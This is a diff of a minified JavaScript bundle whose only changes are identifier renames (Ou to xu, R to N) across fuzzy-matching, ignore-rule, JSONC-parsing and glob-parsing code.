@@ -1,4 +1,4 @@
-import{createRequire as vt}from"module";var Ou={916:function(t,e){var n;n=!0,e.Io=e.kp=void 0;var s=new Uint32Array(65536),
+import{createRequire as vt}from"module";var xu={916:function(t,e){var n;n=!0,e.Io=e.kp=void 0;var s=new Uint32Array(65536),
 r=function(c,l){for(var u=c.length,d=l.length,B=1<<u-1,f=-1,h=0,m=u,g=u;g--;)s[c.charCodeAt(g)]|=1<<g;for(g=0;g<d;g++){var C=s[l.
 charCodeAt(g)],y=C|h;C|=(C&f)+f^f,h|=~(C|f),f&=C,h&B&&m++,f&B&&m--,h=h<<1|1,f=f<<1|~(y|h),h&=y}for(g=u;g--;)s[c.charCodeAt(
 g)]=0;return m},i=function(c,l){for(var u=l.length,d=c.length,B=[],f=[],h=Math.ceil(u/32),m=Math.ceil(d/32),g=0;g<h;g++)
@@ -31,7 +31,7 @@ W,H,Ce,Y,pe,U)};class ue{constructor(H){this._ignoreCase=H,this._rules=[]}_add(H
 H._rules._rules),this._added=!0;return}if(z(H)&&(H={pattern:H}),Z(H.pattern)){const Y=G(H,this._ignoreCase);this._added=
 !0,this._rules.push(Y)}}add(H){return this._added=!1,e(z(H)?le(H):H).forEach(this._add,this),this._added}test(H,Y,pe){let Ce=!1,
 U=!1,ie;this._rules.forEach(Ae=>{const{negative:Le}=Ae;U===Le&&Ce!==U||Le&&!Ce&&!U&&!Y||!Ae[pe].test(H)||(Ce=!Le,U=Le,ie=
-Le?n:Ae)});const R={ignored:Ce,unignored:U};return ie&&(R.rule=ie),R}}const ve=(W,H)=>{throw new H(W)},Fe=(W,H,Y)=>z(W)?
+Le?n:Ae)});const N={ignored:Ce,unignored:U};return ie&&(N.rule=ie),N}}const ve=(W,H)=>{throw new H(W)},Fe=(W,H,Y)=>z(W)?
 W?Fe.isNotRelative(W)?Y(`path should be a \`path.relative()\`d string, but got "${H}"`,RangeError):!0:Y("path must not b\
 e empty",TypeError):Y(`path must be a string, but got \`${H}\``,TypeError),ne=W=>d.test(W);Fe.isNotRelative=ne,Fe.convert=
 W=>W;class Pe{constructor({ignorecase:H=!0,ignoreCase:Y=H,allowRelativePaths:pe=!1}={}){g(this,m,!0),this._rules=new ue(
@@ -174,8 +174,8 @@ b.getTokenLength(),b.getTokenStartLine(),b.getTokenStartCharacter(),()=>D.slice(
 C.onLiteralValue),ue=I(C.onSeparator),ve=v(C.onComment),Fe=I(C.onError),ne=y&&y.disallowComments,Pe=y&&y.allowTrailingComma;
 function He(){for(;;){const U=b.scan();switch(b.getTokenError()){case 4:_e(14);break;case 5:_e(15);break;case 3:_e(13);break;case 1:
 ne||_e(11);break;case 2:_e(12);break;case 6:_e(16);break}switch(U){case 12:case 13:ne?_e(10):ve();break;case 16:_e(1);break;case 15:case 14:
-break;default:return U}}}function _e(U,ie=[],R=[]){if(Fe(U),ie.length+R.length>0){let Ae=b.getToken();for(;Ae!==17;){if(ie.
-indexOf(Ae)!==-1){He();break}else if(R.indexOf(Ae)!==-1)break;Ae=He()}}}function De(U){const ie=b.getTokenValue();return U?
+break;default:return U}}}function _e(U,ie=[],N=[]){if(Fe(U),ie.length+N.length>0){let Ae=b.getToken();for(;Ae!==17;){if(ie.
+indexOf(Ae)!==-1){He();break}else if(N.indexOf(Ae)!==-1)break;Ae=He()}}}function De(U){const ie=b.getTokenValue();return U?
 G(ie):(z(ie),D.push(ie)),He(),!0}function W(){switch(b.getToken()){case 11:const U=b.getTokenValue();let ie=Number(U);isNaN(
 ie)&&(_e(2),ie=0),G(ie);break;case 7:G(null);break;case 8:G(!0);break;case 9:G(!1);break;default:return!1}return He(),!0}
 function H(){return b.getToken()!==10?(_e(3,[],[2,5]),!1):(De(!1),b.getToken()===6?(ue(":"),He(),Ce()||_e(4,[],[2,5])):_e(
@@ -318,94 +318,94 @@ $)throw new SyntaxError(`Input length: ${S}, exceeds maximum allowed length: ${$
 prepend||""},z=[P],Z=_.capture?"":"?:",le=s.globChars(_.windows),de=s.extglobChars(le),{DOT_LITERAL:G,PLUS_LITERAL:ue,SLASH_LITERAL:ve,
 ONE_CHAR:Fe,DOTS_SLASH:ne,NO_DOT:Pe,NO_DOT_SLASH:He,NO_DOTS_SLASH:_e,QMARK:De,QMARK_NO_DOT:W,STAR:H,START_ANCHOR:Y}=le,pe=X=>`\
 (${Z}(?:(?!${Y}${X.dot?ne:G}).)*?)`,Ce=_.dot?"":Pe,U=_.dot?De:W;let ie=_.bash===!0?pe(_):H;_.capture&&(ie=`(${ie})`),typeof _.
-noext=="boolean"&&(_.noextglob=_.noext);const R={input:v,index:-1,start:0,dot:_.dot===!0,consumed:"",output:"",prefix:"",
-backtrack:!1,negated:!1,brackets:0,braces:0,parens:0,quotes:0,globstar:!1,tokens:z};v=r.removePrefix(v,R),S=v.length;const Ae=[],
-Le=[],je=[];let j=P,M;const it=()=>R.index===S-1,$e=R.peek=(X=1)=>v[R.index+X],K=R.advance=()=>v[++R.index]||"",Ye=()=>v.
-slice(R.index+1),ce=(X="",Me=0)=>{R.consumed+=X,R.index+=Me},oe=X=>{R.output+=X.output!=null?X.output:X.value,ce(X.value)},
-we=()=>{let X=1;for(;$e()==="!"&&($e(2)!=="("||$e(3)==="?");)K(),R.start++,X++;return X%2===0?!1:(R.negated=!0,R.start++,
-!0)},re=X=>{R[X]++,je.push(X)},Q=X=>{R[X]--,je.pop()},q=X=>{if(j.type==="globstar"){const Me=R.braces>0&&(X.type==="comm\
+noext=="boolean"&&(_.noextglob=_.noext);const N={input:v,index:-1,start:0,dot:_.dot===!0,consumed:"",output:"",prefix:"",
+backtrack:!1,negated:!1,brackets:0,braces:0,parens:0,quotes:0,globstar:!1,tokens:z};v=r.removePrefix(v,N),S=v.length;const Ae=[],
+Le=[],je=[];let j=P,M;const it=()=>N.index===S-1,$e=N.peek=(X=1)=>v[N.index+X],K=N.advance=()=>v[++N.index]||"",Ye=()=>v.
+slice(N.index+1),ce=(X="",Me=0)=>{N.consumed+=X,N.index+=Me},oe=X=>{N.output+=X.output!=null?X.output:X.value,ce(X.value)},
+we=()=>{let X=1;for(;$e()==="!"&&($e(2)!=="("||$e(3)==="?");)K(),N.start++,X++;return X%2===0?!1:(N.negated=!0,N.start++,
+!0)},re=X=>{N[X]++,je.push(X)},Q=X=>{N[X]--,je.pop()},q=X=>{if(j.type==="globstar"){const Me=N.braces>0&&(X.type==="comm\
 a"||X.type==="brace"),ee=X.extglob===!0||Ae.length&&(X.type==="pipe"||X.type==="paren");X.type!=="slash"&&X.type!=="pare\
-n"&&!Me&&!ee&&(R.output=R.output.slice(0,-j.output.length),j.type="star",j.value="*",j.output=ie,R.output+=j.output)}if(Ae.
+n"&&!Me&&!ee&&(N.output=N.output.slice(0,-j.output.length),j.type="star",j.value="*",j.output=ie,N.output+=j.output)}if(Ae.
 length&&X.type!=="paren"&&(Ae[Ae.length-1].inner+=X.value),(X.value||X.output)&&oe(X),j&&j.type==="text"&&X.type==="text"){
 j.output=(j.output||j.value)+X.value,j.value+=X.value;return}X.prev=j,z.push(X),j=X},he=(X,Me)=>{const ee={...de[Me],conditions:1,
-inner:""};ee.prev=j,ee.parens=R.parens,ee.output=R.output,ee.startIndex=R.index,ee.tokensIndex=z.length;const ke=(_.capture?
-"(":"")+ee.open;re("parens"),q({type:X,value:Me,output:R.output?"":Fe}),q({type:"paren",extglob:!0,value:K(),output:ke}),
-Ae.push(ee)},ot=X=>{const Me=v.slice(X.startIndex,R.index+1),ee=v.slice(X.startIndex+2,R.index),ke=D(ee,_);if((X.type===
+inner:""};ee.prev=j,ee.parens=N.parens,ee.output=N.output,ee.startIndex=N.index,ee.tokensIndex=z.length;const ke=(_.capture?
+"(":"")+ee.open;re("parens"),q({type:X,value:Me,output:N.output?"":Fe}),q({type:"paren",extglob:!0,value:K(),output:ke}),
+Ae.push(ee)},ot=X=>{const Me=v.slice(X.startIndex,N.index+1),ee=v.slice(X.startIndex+2,N.index),ke=D(ee,_);if((X.type===
 "plus"||X.type==="star")&&ke.risky){const Ue=ke.safeOutput?(X.output?"":Fe)+(_.capture?`(${ke.safeOutput})`:ke.safeOutput):
 void 0,St=z[X.tokensIndex];St.type="text",St.value=Me,St.output=Ue||r.escapeRegex(Me);for(let qt=X.tokensIndex+1;qt<z.length;qt++)
-z[qt].value="",z[qt].output="",delete z[qt].suffix;R.output=X.output+St.output,R.backtrack=!0,q({type:"paren",extglob:!0,
+z[qt].value="",z[qt].output="",delete z[qt].suffix;N.output=X.output+St.output,N.backtrack=!0,q({type:"paren",extglob:!0,
 value:M,output:""}),Q("parens");return}let ze=X.close+(_.capture?")":""),tt;if(X.type==="negate"){let Ue=ie;if(X.inner&&
 X.inner.length>1&&X.inner.includes("/")&&(Ue=pe(_)),(Ue!==ie||it()||/^\)+$/.test(Ye()))&&(ze=X.close=`)$))${Ue}`),X.inner.
 includes("*")&&(tt=Ye())&&/^\.[^\\/.]+$/.test(tt)){const St=O(tt,{...I,fastpaths:!1}).output;ze=X.close=`)${St})${Ue})`}
-X.prev.type==="bos"&&(R.negatedExtglob=!0)}q({type:"paren",extglob:!0,value:M,output:ze}),Q("parens")};if(_.fastpaths!==
+X.prev.type==="bos"&&(N.negatedExtglob=!0)}q({type:"paren",extglob:!0,value:M,output:ze}),Q("parens")};if(_.fastpaths!==
 !1&&!/(^[*!]|[/()[\]{}"])/.test(v)){let X=!1,Me=v.replace(c,(ee,ke,ze,tt,Ue,St)=>tt==="\\"?(X=!0,ee):tt==="?"?ke?ke+tt+(Ue?
 De.repeat(Ue.length):""):St===0?U+(Ue?De.repeat(Ue.length):""):De.repeat(ze.length):tt==="."?G.repeat(ze.length):tt==="*"?
 ke?ke+tt+(Ue?ie:""):ie:ke?ee:`\\${ee}`);return X===!0&&(_.unescape===!0?Me=Me.replace(/\\/g,""):Me=Me.replace(/\\+/g,ee=>ee.
-length%2===0?"\\\\":ee?"\\":"")),Me===v&&_.contains===!0?(R.output=v,R):(R.output=r.wrapOutput(Me,R,I),R)}for(;!it();){if(M=
+length%2===0?"\\\\":ee?"\\":"")),Me===v&&_.contains===!0?(N.output=v,N):(N.output=r.wrapOutput(Me,N,I),N)}for(;!it();){if(M=
 K(),M==="\0")continue;if(M==="\\"){const ee=$e();if(ee==="/"&&_.bash!==!0||ee==="."||ee===";")continue;if(!ee){M+="\\",q(
-{type:"text",value:M});continue}const ke=/^\\+/.exec(Ye());let ze=0;if(ke&&ke[0].length>2&&(ze=ke[0].length,R.index+=ze,
-ze%2!==0&&(M+="\\")),_.unescape===!0?M=K():M+=K(),R.brackets===0){q({type:"text",value:M});continue}}if(R.brackets>0&&(M!==
+{type:"text",value:M});continue}const ke=/^\\+/.exec(Ye());let ze=0;if(ke&&ke[0].length>2&&(ze=ke[0].length,N.index+=ze,
+ze%2!==0&&(M+="\\")),_.unescape===!0?M=K():M+=K(),N.brackets===0){q({type:"text",value:M});continue}}if(N.brackets>0&&(M!==
 "]"||j.value==="["||j.value==="[^")){if(_.posix!==!1&&M===":"){const ee=j.value.slice(1);if(ee.includes("[")&&(j.posix=!0,
 ee.includes(":"))){const ke=j.value.lastIndexOf("["),ze=j.value.slice(0,ke),tt=j.value.slice(ke+2),Ue=o[tt];if(Ue){j.value=
-ze+Ue,R.backtrack=!0,K(),!P.output&&z.indexOf(j)===1&&(P.output=Fe);continue}}}(M==="["&&$e()!==":"||M==="-"&&$e()==="]")&&
+ze+Ue,N.backtrack=!0,K(),!P.output&&z.indexOf(j)===1&&(P.output=Fe);continue}}}(M==="["&&$e()!==":"||M==="-"&&$e()==="]")&&
 (M=`\\${M}`),M==="]"&&(j.value==="["||j.value==="[^")&&(M=`\\${M}`),_.posix===!0&&M==="!"&&j.value==="["&&(M="^"),j.value+=
-M,oe({value:M});continue}if(R.quotes===1&&M!=='"'){M=r.escapeRegex(M),j.value+=M,oe({value:M});continue}if(M==='"'){R.quotes=
-R.quotes===1?0:1,_.keepQuotes===!0&&q({type:"text",value:M});continue}if(M==="("){re("parens"),q({type:"paren",value:M});
-continue}if(M===")"){if(R.parens===0&&_.strictBrackets===!0)throw new SyntaxError(d("opening","("));const ee=Ae[Ae.length-
-1];if(ee&&R.parens===ee.parens+1){ot(Ae.pop());continue}q({type:"paren",value:M,output:R.parens?")":"\\)"}),Q("parens");
+M,oe({value:M});continue}if(N.quotes===1&&M!=='"'){M=r.escapeRegex(M),j.value+=M,oe({value:M});continue}if(M==='"'){N.quotes=
+N.quotes===1?0:1,_.keepQuotes===!0&&q({type:"text",value:M});continue}if(M==="("){re("parens"),q({type:"paren",value:M});
+continue}if(M===")"){if(N.parens===0&&_.strictBrackets===!0)throw new SyntaxError(d("opening","("));const ee=Ae[Ae.length-
+1];if(ee&&N.parens===ee.parens+1){ot(Ae.pop());continue}q({type:"paren",value:M,output:N.parens?")":"\\)"}),Q("parens");
 continue}if(M==="["){if(_.nobracket===!0||!Ye().includes("]")){if(_.nobracket!==!0&&_.strictBrackets===!0)throw new SyntaxError(
 d("closing","]"));M=`\\${M}`}else re("brackets");q({type:"bracket",value:M});continue}if(M==="]"){if(_.nobracket===!0||j&&
-j.type==="bracket"&&j.value.length===1){q({type:"text",value:M,output:`\\${M}`});continue}if(R.brackets===0){if(_.strictBrackets===
+j.type==="bracket"&&j.value.length===1){q({type:"text",value:M,output:`\\${M}`});continue}if(N.brackets===0){if(_.strictBrackets===
 !0)throw new SyntaxError(d("opening","["));q({type:"text",value:M,output:`\\${M}`});continue}Q("brackets");const ee=j.value.
 slice(1);if(j.posix!==!0&&ee[0]==="^"&&!ee.includes("/")&&(M=`/${M}`),j.value+=M,oe({value:M}),_.literalBrackets===!1||r.
-hasRegexChars(ee))continue;const ke=r.escapeRegex(j.value);if(R.output=R.output.slice(0,-j.value.length),_.literalBrackets===
-!0){R.output+=ke,j.value=ke;continue}j.value=`(${Z}${ke}|${j.value})`,R.output+=j.value;continue}if(M==="{"&&_.nobrace!==
-!0){re("braces");const ee={type:"brace",value:M,output:"(",outputIndex:R.output.length,tokensIndex:R.tokens.length};Le.push(
+hasRegexChars(ee))continue;const ke=r.escapeRegex(j.value);if(N.output=N.output.slice(0,-j.value.length),_.literalBrackets===
+!0){N.output+=ke,j.value=ke;continue}j.value=`(${Z}${ke}|${j.value})`,N.output+=j.value;continue}if(M==="{"&&_.nobrace!==
+!0){re("braces");const ee={type:"brace",value:M,output:"(",outputIndex:N.output.length,tokensIndex:N.tokens.length};Le.push(
 ee),q(ee);continue}if(M==="}"){const ee=Le[Le.length-1];if(_.nobrace===!0||!ee){q({type:"text",value:M,output:M});continue}
 let ke=")";if(ee.dots===!0){const ze=z.slice(),tt=[];for(let Ue=ze.length-1;Ue>=0&&(z.pop(),ze[Ue].type!=="brace");Ue--)
-ze[Ue].type!=="dots"&&tt.unshift(ze[Ue].value);ke=u(tt,_),R.backtrack=!0}if(ee.comma!==!0&&ee.dots!==!0){const ze=R.output.
-slice(0,ee.outputIndex),tt=R.tokens.slice(ee.tokensIndex);ee.value=ee.output="\\{",M=ke="\\}",R.output=ze;for(const Ue of tt)
-R.output+=Ue.output||Ue.value}q({type:"brace",value:M,output:ke}),Q("braces"),Le.pop();continue}if(M==="|"){Ae.length>0&&
+ze[Ue].type!=="dots"&&tt.unshift(ze[Ue].value);ke=u(tt,_),N.backtrack=!0}if(ee.comma!==!0&&ee.dots!==!0){const ze=N.output.
+slice(0,ee.outputIndex),tt=N.tokens.slice(ee.tokensIndex);ee.value=ee.output="\\{",M=ke="\\}",N.output=ze;for(const Ue of tt)
+N.output+=Ue.output||Ue.value}q({type:"brace",value:M,output:ke}),Q("braces"),Le.pop();continue}if(M==="|"){Ae.length>0&&
 Ae[Ae.length-1].conditions++,q({type:"text",value:M});continue}if(M===","){let ee=M;const ke=Le[Le.length-1];ke&&je[je.length-
-1]==="braces"&&(ke.comma=!0,ee="|"),q({type:"comma",value:M,output:ee});continue}if(M==="/"){if(j.type==="dot"&&R.index===
-R.start+1){R.start=R.index+1,R.consumed="",R.output="",z.pop(),j=P;continue}q({type:"slash",value:M,output:ve});continue}
-if(M==="."){if(R.braces>0&&j.type==="dot"){j.value==="."&&(j.output=G);const ee=Le[Le.length-1];j.type="dots",j.output+=
-M,j.value+=M,ee.dots=!0;continue}if(R.braces+R.parens===0&&j.type!=="bos"&&j.type!=="slash"){q({type:"text",value:M,output:G});
+1]==="braces"&&(ke.comma=!0,ee="|"),q({type:"comma",value:M,output:ee});continue}if(M==="/"){if(j.type==="dot"&&N.index===
+N.start+1){N.start=N.index+1,N.consumed="",N.output="",z.pop(),j=P;continue}q({type:"slash",value:M,output:ve});continue}
+if(M==="."){if(N.braces>0&&j.type==="dot"){j.value==="."&&(j.output=G);const ee=Le[Le.length-1];j.type="dots",j.output+=
+M,j.value+=M,ee.dots=!0;continue}if(N.braces+N.parens===0&&j.type!=="bos"&&j.type!=="slash"){q({type:"text",value:M,output:G});
 continue}q({type:"dot",value:M,output:G});continue}if(M==="?"){if(!(j&&j.value==="(")&&_.noextglob!==!0&&$e()==="("&&$e(
 2)!=="?"){he("qmark",M);continue}if(j&&j.type==="paren"){const ke=$e();let ze=M;(j.value==="("&&!/[!=<:]/.test(ke)||ke===
 "<"&&!/<([!=]|\w+>)/.test(Ye()))&&(ze=`\\${M}`),q({type:"text",value:M,output:ze});continue}if(_.dot!==!0&&(j.type==="sl\
 ash"||j.type==="bos")){q({type:"qmark",value:M,output:W});continue}q({type:"qmark",value:M,output:De});continue}if(M==="\
-!"){if(_.noextglob!==!0&&$e()==="("&&($e(2)!=="?"||!/[!=<:]/.test($e(3)))){he("negate",M);continue}if(_.nonegate!==!0&&R.
+!"){if(_.noextglob!==!0&&$e()==="("&&($e(2)!=="?"||!/[!=<:]/.test($e(3)))){he("negate",M);continue}if(_.nonegate!==!0&&N.
 index===0){we();continue}}if(M==="+"){if(_.noextglob!==!0&&$e()==="("&&$e(2)!=="?"){he("plus",M);continue}if(j&&j.value===
 "("||_.regex===!1){q({type:"plus",value:M,output:ue});continue}if(j&&(j.type==="bracket"||j.type==="paren"||j.type==="br\
-ace")||R.parens>0){q({type:"plus",value:M});continue}q({type:"plus",value:ue});continue}if(M==="@"){if(_.noextglob!==!0&&
+ace")||N.parens>0){q({type:"plus",value:M});continue}q({type:"plus",value:ue});continue}if(M==="@"){if(_.noextglob!==!0&&
 $e()==="("&&$e(2)!=="?"){q({type:"at",extglob:!0,value:M,output:""});continue}q({type:"text",value:M});continue}if(M!=="\
-*"){(M==="$"||M==="^")&&(M=`\\${M}`);const ee=a.exec(Ye());ee&&(M+=ee[0],R.index+=ee[0].length),q({type:"text",value:M});
-continue}if(j&&(j.type==="globstar"||j.star===!0)){j.type="star",j.star=!0,j.value+=M,j.output=ie,R.backtrack=!0,R.globstar=
+*"){(M==="$"||M==="^")&&(M=`\\${M}`);const ee=a.exec(Ye());ee&&(M+=ee[0],N.index+=ee[0].length),q({type:"text",value:M});
+continue}if(j&&(j.type==="globstar"||j.star===!0)){j.type="star",j.star=!0,j.value+=M,j.output=ie,N.backtrack=!0,N.globstar=
 !0,ce(M);continue}let X=Ye();if(_.noextglob!==!0&&/^\([^?]/.test(X)){he("star",M);continue}if(j.type==="star"){if(_.noglobstar===
 !0){ce(M);continue}const ee=j.prev,ke=ee.prev,ze=ee.type==="slash"||ee.type==="bos",tt=ke&&(ke.type==="star"||ke.type===
-"globstar");if(_.bash===!0&&(!ze||X[0]&&X[0]!=="/")){q({type:"star",value:M,output:""});continue}const Ue=R.braces>0&&(ee.
+"globstar");if(_.bash===!0&&(!ze||X[0]&&X[0]!=="/")){q({type:"star",value:M,output:""});continue}const Ue=N.braces>0&&(ee.
 type==="comma"||ee.type==="brace"),St=Ae.length&&(ee.type==="pipe"||ee.type==="paren");if(!ze&&ee.type!=="paren"&&!Ue&&!St){
-q({type:"star",value:M,output:""});continue}for(;X.slice(0,3)==="/**";){const nn=v[R.index+4];if(nn&&nn!=="/")break;X=X.
-slice(3),ce("/**",3)}const qt=it()||R.parens>0&&X===")".repeat(R.parens)&&!Ae.some(nn=>nn.type==="negate");if(ee.type===
-"bos"&&it()){j.type="globstar",j.value+=M,j.output=pe(_),R.output=j.output,R.globstar=!0,ce(M);continue}if(ee.type==="sl\
-ash"&&ee.prev.type!=="bos"&&!tt&&qt){R.output=R.output.slice(0,-(ee.output+j.output).length),ee.output=`(?:${ee.output}`,
-j.type="globstar",j.output=pe(_)+(_.strictSlashes?")":"|$)"),j.value+=M,R.globstar=!0,R.output+=ee.output+j.output,ce(M);
-continue}if(ee.type==="slash"&&ee.prev.type!=="bos"&&X[0]==="/"){const nn=X[1]!==void 0?"|$":"";R.output=R.output.slice(
+q({type:"star",value:M,output:""});continue}for(;X.slice(0,3)==="/**";){const nn=v[N.index+4];if(nn&&nn!=="/")break;X=X.
+slice(3),ce("/**",3)}const qt=it()||N.parens>0&&X===")".repeat(N.parens)&&!Ae.some(nn=>nn.type==="negate");if(ee.type===
+"bos"&&it()){j.type="globstar",j.value+=M,j.output=pe(_),N.output=j.output,N.globstar=!0,ce(M);continue}if(ee.type==="sl\
+ash"&&ee.prev.type!=="bos"&&!tt&&qt){N.output=N.output.slice(0,-(ee.output+j.output).length),ee.output=`(?:${ee.output}`,
+j.type="globstar",j.output=pe(_)+(_.strictSlashes?")":"|$)"),j.value+=M,N.globstar=!0,N.output+=ee.output+j.output,ce(M);
+continue}if(ee.type==="slash"&&ee.prev.type!=="bos"&&X[0]==="/"){const nn=X[1]!==void 0?"|$":"";N.output=N.output.slice(
 0,-(ee.output+j.output).length),ee.output=`(?:${ee.output}`,j.type="globstar",j.output=`${pe(_)}${ve}|${ve}${nn})`,j.value+=
-M,R.output+=ee.output+j.output,R.globstar=!0,ce(M+K()),q({type:"slash",value:"/",output:""});continue}if(ee.type==="bos"&&
-X[0]==="/"){j.type="globstar",j.value+=M,j.output=`(?:^|${ve}|${pe(_)}${ve})`,R.output=j.output,R.globstar=!0,ce(M+K()),
-q({type:"slash",value:"/",output:""});continue}R.output=R.output.slice(0,-j.output.length),j.type="globstar",j.output=pe(
-_),j.value+=M,R.output+=j.output,R.globstar=!0,ce(M);continue}const Me={type:"star",value:M,output:ie};if(_.bash===!0){Me.
+M,N.output+=ee.output+j.output,N.globstar=!0,ce(M+K()),q({type:"slash",value:"/",output:""});continue}if(ee.type==="bos"&&
+X[0]==="/"){j.type="globstar",j.value+=M,j.output=`(?:^|${ve}|${pe(_)}${ve})`,N.output=j.output,N.globstar=!0,ce(M+K()),
+q({type:"slash",value:"/",output:""});continue}N.output=N.output.slice(0,-j.output.length),j.type="globstar",j.output=pe(
+_),j.value+=M,N.output+=j.output,N.globstar=!0,ce(M);continue}const Me={type:"star",value:M,output:ie};if(_.bash===!0){Me.
 output=".*?",(j.type==="bos"||j.type==="slash")&&(Me.output=Ce+Me.output),q(Me);continue}if(j&&(j.type==="bracket"||j.type===
-"paren")&&_.regex===!0){Me.output=M,q(Me);continue}(R.index===R.start||j.type==="slash"||j.type==="dot")&&(j.type==="dot"?
-(R.output+=He,j.output+=He):_.dot===!0?(R.output+=_e,j.output+=_e):(R.output+=Ce,j.output+=Ce),$e()!=="*"&&(R.output+=Fe,
-j.output+=Fe)),q(Me)}for(;R.brackets>0;){if(_.strictBrackets===!0)throw new SyntaxError(d("closing","]"));R.output=r.escapeLast(
-R.output,"["),Q("brackets")}for(;R.parens>0;){if(_.strictBrackets===!0)throw new SyntaxError(d("closing",")"));R.output=
-r.escapeLast(R.output,"("),Q("parens")}for(;R.braces>0;){if(_.strictBrackets===!0)throw new SyntaxError(d("closing","}"));
-R.output=r.escapeLast(R.output,"{"),Q("braces")}if(_.strictSlashes!==!0&&(j.type==="star"||j.type==="bracket")&&q({type:"\
-maybe_slash",value:"",output:`${ve}?`}),R.backtrack===!0){R.output="";for(const X of R.tokens)R.output+=X.output!=null?X.
-output:X.value,X.suffix&&(R.output+=X.suffix)}return R};O.fastpaths=(v,I)=>{const _={...I},$=typeof _.maxLength=="number"?
+"paren")&&_.regex===!0){Me.output=M,q(Me);continue}(N.index===N.start||j.type==="slash"||j.type==="dot")&&(j.type==="dot"?
+(N.output+=He,j.output+=He):_.dot===!0?(N.output+=_e,j.output+=_e):(N.output+=Ce,j.output+=Ce),$e()!=="*"&&(N.output+=Fe,
+j.output+=Fe)),q(Me)}for(;N.brackets>0;){if(_.strictBrackets===!0)throw new SyntaxError(d("closing","]"));N.output=r.escapeLast(
+N.output,"["),Q("brackets")}for(;N.parens>0;){if(_.strictBrackets===!0)throw new SyntaxError(d("closing",")"));N.output=
+r.escapeLast(N.output,"("),Q("parens")}for(;N.braces>0;){if(_.strictBrackets===!0)throw new SyntaxError(d("closing","}"));
+N.output=r.escapeLast(N.output,"{"),Q("braces")}if(_.strictSlashes!==!0&&(j.type==="star"||j.type==="bracket")&&q({type:"\
+maybe_slash",value:"",output:`${ve}?`}),N.backtrack===!0){N.output="";for(const X of N.tokens)N.output+=X.output!=null?X.
+output:X.value,X.suffix&&(N.output+=X.suffix)}return N};O.fastpaths=(v,I)=>{const _={...I},$=typeof _.maxLength=="number"?
 Math.min(i,_.maxLength):i,S=v.length;if(S>$)throw new SyntaxError(`Input length: ${S}, exceeds maximum allowed length: ${$}`);
 v=l[v]||v;const{DOT_LITERAL:P,SLASH_LITERAL:z,ONE_CHAR:Z,DOTS_SLASH:le,NO_DOT:de,NO_DOTS:G,NO_DOTS_SLASH:ue,STAR:ve,START_ANCHOR:Fe}=s.
 globChars(_.windows),ne=_.dot?G:de,Pe=_.dot?ue:de,He=_.capture?"":"?:",_e={negated:!1,prefix:""};let De=_.bash===!0?".*?":
@@ -437,18 +437,18 @@ CHAR_FORWARD_SLASH:u,CHAR_LEFT_CURLY_BRACE:d,CHAR_LEFT_PARENTHESES:B,CHAR_LEFT_S
 CHAR_RIGHT_CURLY_BRACE:g,CHAR_RIGHT_PARENTHESES:C,CHAR_RIGHT_SQUARE_BRACKET:y}=n(595),b=v=>v===u||v===o,D=v=>{v.isPrefix!==
 !0&&(v.depth=v.isGlobstar?1/0:1)},O=(v,I)=>{const _=I||{},$=v.length-1,S=_.parts===!0||_.tokens===!0||_.scanToEnd===!0,P=[],
 z=[],Z=[];let le=v,de=-1,G=0,ue=0,ve=!1,Fe=!1,ne=!1,Pe=!1,He=!1,_e=!1,De=!1,W=!1,H=!1,Y=!1,pe=0,Ce,U,ie={value:"",depth:0,
-isGlob:!1};const R=()=>de>=$,Ae=()=>le.charCodeAt(de+1),Le=()=>(Ce=U,le.charCodeAt(++de));for(;de<$;){U=Le();let $e;if(U===
-o){De=ie.backslashes=!0,U=Le(),U===d&&(_e=!0);continue}if(_e===!0||U===d){for(pe++;R()!==!0&&(U=Le());){if(U===o){De=ie.
+isGlob:!1};const N=()=>de>=$,Ae=()=>le.charCodeAt(de+1),Le=()=>(Ce=U,le.charCodeAt(++de));for(;de<$;){U=Le();let $e;if(U===
+o){De=ie.backslashes=!0,U=Le(),U===d&&(_e=!0);continue}if(_e===!0||U===d){for(pe++;N()!==!0&&(U=Le());){if(U===o){De=ie.
 backslashes=!0,Le();continue}if(U===d){pe++;continue}if(_e!==!0&&U===c&&(U=Le())===c){if(ve=ie.isBrace=!0,ne=ie.isGlob=!0,
 Y=!0,S===!0)continue;break}if(_e!==!0&&U===a){if(ve=ie.isBrace=!0,ne=ie.isGlob=!0,Y=!0,S===!0)continue;break}if(U===g&&(pe--,
 pe===0)){_e=!1,ve=ie.isBrace=!0,Y=!0;break}}if(S===!0)continue;break}if(U===u){if(P.push(de),z.push(ie),ie={value:"",depth:0,
 isGlob:!1},Y===!0)continue;if(Ce===c&&de===G+1){G+=2;continue}ue=de+1;continue}if(_.noext!==!0&&(U===h||U===i||U===r||U===
-m||U===l)===!0&&Ae()===B){if(ne=ie.isGlob=!0,Pe=ie.isExtglob=!0,Y=!0,U===l&&de===G&&(H=!0),S===!0){let Ye=0;for(;R()!==!0&&
+m||U===l)===!0&&Ae()===B){if(ne=ie.isGlob=!0,Pe=ie.isExtglob=!0,Y=!0,U===l&&de===G&&(H=!0),S===!0){let Ye=0;for(;N()!==!0&&
 (U=Le());){if(U===o){De=ie.backslashes=!0,Le();continue}if(U===B){Ye++;continue}if(U===C&&--Ye===0){Y=!0;break}}continue}
 break}if(U===r){if(Ce===r&&(He=ie.isGlobstar=!0),ne=ie.isGlob=!0,Y=!0,S===!0)continue;break}if(U===m){if(ne=ie.isGlob=!0,
-Y=!0,S===!0)continue;break}if(U===f){for(;R()!==!0&&($e=Le());){if($e===o){De=ie.backslashes=!0,Le();continue}if($e===y){
+Y=!0,S===!0)continue;break}if(U===f){for(;N()!==!0&&($e=Le());){if($e===o){De=ie.backslashes=!0,Le();continue}if($e===y){
 Fe=ie.isBracket=!0,ne=ie.isGlob=!0,Y=!0;break}}if(S===!0)continue;break}if(_.nonegate!==!0&&U===l&&de===G){W=ie.negated=
-!0,G++;continue}if(_.noparen!==!0&&U===B){if(ne=ie.isGlob=!0,S===!0){let K=1;for(;R()!==!0&&(U=Le());){if(U===o){De=ie.backslashes=
+!0,G++;continue}if(_.noparen!==!0&&U===B){if(ne=ie.isGlob=!0,S===!0){let K=1;for(;N()!==!0&&(U=Le());){if(U===o){De=ie.backslashes=
 !0,Le();continue}if(U===B){K++;continue}if(U===C&&--K===0){Y=!0;break}}continue}break}if(ne===!0){if(Y=!0,S===!0)continue;
 break}}_.noext===!0&&(Pe=!1,ne=!1);let je=le,j="",M="";G>0&&(j=le.slice(0,G),le=le.slice(G),ue-=G),je&&ne===!0&&ue>0?(je=
